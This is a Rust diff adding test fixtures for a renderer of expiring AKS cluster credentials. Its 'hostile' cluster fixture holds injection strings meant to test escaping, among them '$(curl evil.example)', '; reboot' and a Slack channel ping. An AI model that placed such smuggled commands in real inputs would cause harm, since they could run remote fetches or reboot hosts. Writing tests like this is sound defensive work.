@@ -8,6 +8,7 @@ use super::Renderer;
 use crate::domain::{
     Id, Kind, Notification, ObjectType, Row, Rung,
     calendar::Calendar,
+    facts::Cluster,
     notification::{Blindness, Subject},
     row::{Links, RowSeverity},
     rung::days_left,
@@ -91,6 +92,53 @@ pub(crate) fn row(number: u32, app: &str, name: &str, hours: i64) -> Row {
             ),
         }),
     }
+}
+
+/// An AKS cluster in a resource group of the same name.
+fn cluster(name: &str) -> Cluster {
+    let subscription_id = Uuid::from_u128(0x5b << 120).to_string();
+    Cluster {
+        id: format!(
+            "/subscriptions/{subscription_id}/resourceGroups/rg-{name}/providers/Microsoft.ContainerService/managedClusters/{name}"
+        ),
+        name: name.to_owned(),
+        resource_group: format!("rg-{name}"),
+        subscription_id,
+        location: "westeurope".to_owned(),
+    }
+}
+
+/// Secrets that clusters sign in with: one; one that is replaced; a principal's, of more clusters than are named; one of hostile clusters.
+pub(crate) fn clusters() -> Notification {
+    let one = Row {
+        used_by: vec![cluster("aks-prod-weu")],
+        ..row(1, "aks-prod", "aks-prod-weu", 6 * 24 + 1)
+    };
+    let replaced = Row {
+        superseded_by: Some(Id::Guid(credential(91))),
+        severity: RowSeverity::Info,
+        ..one.clone()
+    };
+    let many = Row {
+        object_type: ObjectType::ServicePrincipal,
+        used_by: (1..=8).map(|n| cluster(&format!("aks-{n}"))).collect(),
+        ..row(2, "aks-shared", "", 10 * 24 + 1)
+    };
+    let odd = Cluster {
+        resource_group: "rg-größe(dr)".to_owned(),
+        ..cluster("aks-dr")
+    };
+    let hostile = Cluster {
+        name: "a\"; reboot; echo \"<!channel>`*".to_owned(),
+        resource_group: "$(curl evil.example)\n<b>&\u{202E}".to_owned(),
+        subscription_id: "; reboot".to_owned(),
+        ..cluster("x")
+    };
+    let hostile = Row {
+        used_by: vec![hostile, odd],
+        ..row(3, "aks-odd", "", 20 * 24 + 1)
+    };
+    due(vec![one, replaced, many, hostile])
 }
 
 /// The key id of the row with this number.
@@ -273,7 +321,14 @@ fn text() -> impl Strategy<Value = String> {
 
 fn any_row() -> impl Strategy<Value = Row> {
     let names = (text(), prop::option::of(text()), prop::option::of(text()));
-    let lists = (prop::collection::vec(text(), 0..7), text());
+    let hostile = (text(), text()).prop_map(|(name, resource_group)| Cluster {
+        name,
+        resource_group,
+        ..cluster("x")
+    });
+    let plain = "[a-z]{60}".prop_map(|name| cluster(&name));
+    let clusters = prop::collection::vec(prop_oneof![hostile, plain], 0..9);
+    let lists = (prop::collection::vec(text(), 0..7), clusters, text());
     let shape = (
         -400i64..2_000,
         0..Kind::ALL.len(),
@@ -281,7 +336,7 @@ fn any_row() -> impl Strategy<Value = Row> {
         any::<bool>(),
     );
     (names, lists, shape).prop_map(
-        |((app, name, hint), (owners, reason), (hours, kind, odd_id, superseded))| {
+        |((app, name, hint), (owners, used_by, reason), (hours, kind, odd_id, superseded))| {
             let base = row(0, &app, "", hours);
             Row {
                 kind: Kind::ALL[kind],
@@ -294,6 +349,7 @@ fn any_row() -> impl Strategy<Value = Row> {
                 },
                 superseded_by: superseded.then(|| Id::Guid(credential(99))),
                 owners,
+                used_by,
                 reason: Some(reason),
                 ..base
             }
